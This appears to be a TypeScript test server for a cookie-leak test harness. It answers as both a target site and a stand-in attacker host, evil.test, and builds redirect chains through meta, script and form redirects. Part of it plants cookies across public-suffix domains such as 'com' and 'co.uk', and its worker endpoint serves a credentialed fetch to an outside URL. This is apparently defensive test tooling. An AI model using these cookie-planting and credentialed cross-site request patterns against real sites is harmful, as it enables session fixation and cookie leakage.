import type { ServerResponse } from 'node:http'
import { isWithinDomain } from '@gleaner/cookie-rules'
import type { Came } from './leak-site.ts'
import { PARTS, type PartCase, STRANGERS } from './part-cases.ts'
import { REDIRECTS, type RedirectCase } from './redirect-cases.ts'
import { SESSIONS, type SessionName } from './sessions.ts'

/** Cases that one attempt goes through, one after the other. */
export interface Chain {
  session: SessionName
  cases: RedirectCase[]
  /** The path that it begins at. */
  start: string
}

/** The cases in as few attempts as can be, where each follows so many redirects: every case leads there and back. */
export function chainsOf(redirects: readonly RedirectCase[], maxRedirects: number): Chain[] {
  const most = Math.floor(maxRedirects / 2)
  const chains: Chain[] = []
  for (const redirect of redirects) {
    const { session = 'app' } = redirect
    const last = chains.findLast((chain) => chain.session === session)
    if (last && last.cases.length < most) last.cases.push(redirect)
    else chains.push({ session, cases: [redirect], start: '' })
  }
  return chains.map((chain) => ({ ...chain, start: `/chain/${chain.session}/${indexes(chain.cases)}` }))
}

const indexes = (cases: RedirectCase[]) => cases.map((each) => REDIRECTS.indexOf(each)).join('-')

/** Where a redirect of this case leads. */
export const outOf = (redirect: RedirectCase) => `/out/redirect-${REDIRECTS.indexOf(redirect)}`
export const pathOfPart = (part: PartCase) => `/out/part-${PARTS.indexOf(part)}`
export const pathOfStranger = (part: PartCase) => `/home/stranger-${STRANGERS.indexOf(part)}`

const ENOUGH = `<p>${'Boats, ropes and nets lie in the harbour. '.repeat(20)}</p>`
const HTML = { 'content-type': 'text/html; charset=utf-8' }

const DONE = `<!doctype html><title>Harbour</title>${ENOUGH}<p id="done">done</p>`

/** What the target makes of two cookies that were given by name and value, and of one that says all. */
export const RENEWALS = [
  'bare=renewed; Path=/; HttpOnly; SameSite=Lax',
  'host=renewed; Path=/; Domain=app.example.com; Secure; Max-Age=3600',
  'lax=renewed; Path=/; Domain=app.example.com; Secure; SameSite=Lax',
]

/** Cookies that the outside tries to plant at the session's host, and for everybody. */
const PLANTED = ['app.example.com', 'test', 'com', 'co.uk', 'github.io', 'unknown'].flatMap((domain) => [
  `planted=1; Domain=${domain}; Path=/`,
  `bare=planted; Domain=${domain}; Path=/`,
])

/** Every page of every host of the site. `port`: where it listens; `came`: what has come so far. */
export function respondAs(port: () => number, came: () => Came[]) {
  const inPort = (text: string) => text.replaceAll('PORT', String(port()))
  const home = () => inPort('https://app.example.com:PORT')

  return ({ host, path, headers }: Came, response: ServerResponse): void => {
    const url = new URL(path, 'http://site')
    // Some addresses have a name of a host in front.
    const [, area, name = '', step = '', rest = ''] = url.pathname.replace(/^.*(?=\/out\/)/, '').split('/')
    const cors = {
      'access-control-allow-origin': headers.origin ?? '*',
      'access-control-allow-credentials': 'true',
      'access-control-allow-headers': 'x-own',
    }
    const show = (html: string) => response.writeHead(200, { ...HTML, ...cors }).end(html)
    const redirect = (to: string, status = 302) =>
      response.writeHead(status, { location: Buffer.from(to).toString('latin1'), ...cors }).end()

    if (area === 'chain') return void leadOut(name as SessionName, step === '' ? [] : step.split('-'))
    if (area === 'out' && name.startsWith('redirect-')) return void leadBack(step, rest)
    if (area === 'renew') return void renew(name)
    if (area === 'via') return void redirect(inPort(`https://evil.test:PORT/out/${name}`))
    if (area === 'back') return void redirect(`${home()}/home/${name}`)
    if (area === 'parts') return void show(partsPage(PARTS, name === 'light'))
    if (area === 'to-strangers') return void redirect(inPort(`https://evil.test:PORT/strangers/${name}`))
    if (area === 'strangers') return void show(partsPage(STRANGERS, name === 'light'))
    if (area === 'frame')
      return void show(`<iframe src="${inPort(`https://evil.test:PORT/out/${name}`)}"></iframe>`)
    if (area === 'arrived') return void arrived(name)
    if (url.pathname.endsWith('worker.js')) return void worker(url.search.slice(1))
    response.writeHead(200, { 'content-type': contentType(headers), ...cors }).end('1')

    /** To the first of the cases that are left. */
    function leadOut(session: SessionName, [at, ...left]: string[]): void {
      if (at === undefined) return void show(DONE)
      const next = REDIRECTS[Number(at)]!
      const to = inPort(`${next.to}${outOf(next)}/${session}/${left.join('-')}`)
      if (typeof next.by === 'number') return void redirect(to, next.by)
      if (next.by === 'refresh')
        return void response.writeHead(200, { ...HTML, refresh: `0; url=${to}` }).end('Moving')
      const moves = {
        meta: `<meta http-equiv="refresh" content="0; url=${to}">`,
        script: `<script>location = ${JSON.stringify(to)}</script>`,
        form: `<form id="form" method="post" action="${to}"></form><script>form.submit()</script>`,
      }
      show(`<!doctype html><title>Moving</title>${moves[next.by]}`)
    }

    function leadBack(session: string, left: string): void {
      response.setHeader(
        'set-cookie',
        isWithinDomain(host, SESSIONS[session as SessionName].domain) ? [] : PLANTED,
      )
      redirect(`${SESSIONS[session as SessionName].asked}:${port()}/chain/${session}/${left}`)
    }

    /** Sets cookies of the session anew: in redirects, and in a browser once more for a script. */
    function renew(step: string): void {
      const next = RENEWALS[Number(step)]
      response.setHeader('set-cookie', step === 'script' ? 'script=renewed; Path=/' : (next ?? []))
      if (next !== undefined) return void redirect(`/renew/${Number(step) + 1}`)
      if (step === 'script') return void response.end('done')
      show(`${DONE.replace(' id="done"', '')}<script>
        fetch('/renew/script').then(() => fetch('/renewed')).then(() => {
          document.body.insertAdjacentHTML('beforeend', '<p id="done">done</p>')
        })</script>`)
    }

    function partsPage(parts: PartCase[], isLight: boolean): string {
      const loaded = parts.filter(({ heavy }) => !(isLight && heavy))
      const html = loaded.map((part) => {
        const name = parts === PARTS ? `part-${PARTS.indexOf(part)}` : `stranger-${STRANGERS.indexOf(part)}`
        return part.html
          .replaceAll('OUT', inPort(`https://evil.test:PORT/out/${name}`))
          .replaceAll('VIA', `/via/${name}`)
          .replaceAll('FRAME', `/frame/${name}`)
          .replaceAll('HOME', `${home()}/home/${name}`)
          .replaceAll('BACK', inPort(`https://evil.test:PORT/back/${name}`))
      })
      const kind = parts === PARTS ? 'parts' : 'strangers'
      const waiting = `<script>
        const wait = setInterval(async () => {
          if (await (await fetch('/arrived/${kind}${isLight ? '-light' : ''}')).text() !== 'yes') return
          clearInterval(wait)
          document.body.insertAdjacentHTML('beforeend', '<p id="done">done</p>')
        }, 100)</script>`
      return `<!doctype html><title>Parts</title><body>${ENOUGH}${html.join('\n')}${waiting}`
    }

    /** Whether all that a page must ask for has come. */
    function arrived(name: string): void {
      const [kind, light] = name.split('-')
      const [parts, pathOf] = kind === 'parts' ? [PARTS, pathOfPart] : [STRANGERS, pathOfStranger]
      const wanted = parts.filter(({ heavy, optional }) => !optional && !(light && heavy)).map(pathOf)
      const seen = new Set(came().map(({ path }) => path))
      response
        .writeHead(200, { 'content-type': 'text/plain' })
        .end(wanted.every((each) => seen.has(each)) ? 'yes' : 'no')
    }

    function worker(out: string): void {
      const code = `fetch(${JSON.stringify(out)}, { credentials: 'include' }).catch(() => {})`
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(code)
    }
  }
}

/** What browsers take for the kind of thing that they asked for. */
function contentType(headers: Came['headers']): string {
  const wanted = headers['sec-fetch-dest']
  if (wanted === 'script' || wanted === 'worker') return 'text/javascript'
  if (wanted === 'style') return 'text/css'
  return wanted === 'empty' && headers.accept === 'text/event-stream'
    ? 'text/event-stream'
    : HTML['content-type']
}
